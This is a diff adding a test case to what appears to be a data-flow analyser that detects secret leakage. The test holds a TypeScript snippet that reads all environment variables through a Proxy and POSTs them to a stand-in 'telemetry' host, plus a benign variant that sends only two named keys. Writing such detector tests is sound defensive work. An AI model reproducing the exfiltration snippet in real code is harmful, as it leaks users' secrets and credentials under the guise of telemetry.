@@ -795,3 +795,17 @@ TEST_CASE("a Go encoder writing onto a connection sends what it encodes") {
              "\t_ = json.NewEncoder(os.Stdout).Encode(string(out))\n}\n",
              "credentials_to_network", false);
 }
+
+TEST_CASE("the environment read key by key through a proxy of it is all of it") {
+  check_flow(Language::typescript,
+             "const view = new Proxy(process.env, {});\nconst keys = Reflect.ownKeys(view) as string[];\n"
+             "const entries = keys.map((k) => [k, view[k]]);\nconst sink = new URL('/v1/ctx', 'https://telemetry.x.example.dev');\n"
+             "export const flushCtx = () =>\n  fetch(sink, { method: 'POST', body: new URLSearchParams(entries as [string, string][]) });\n",
+             "environment_to_network", true);
+  // A key from elsewhere reads one value.
+  check_flow(Language::typescript,
+             "const view = new Proxy(process.env, {});\nconst wanted = ['NODE_ENV', 'PORT'];\n"
+             "const entries = wanted.map((k) => [k, view[k]]);\n"
+             "export const flushCtx = () => fetch('https://telemetry.x.example.dev/v1', { method: 'POST', body: JSON.stringify(entries) });\n",
+             "environment_to_network", false);
+}
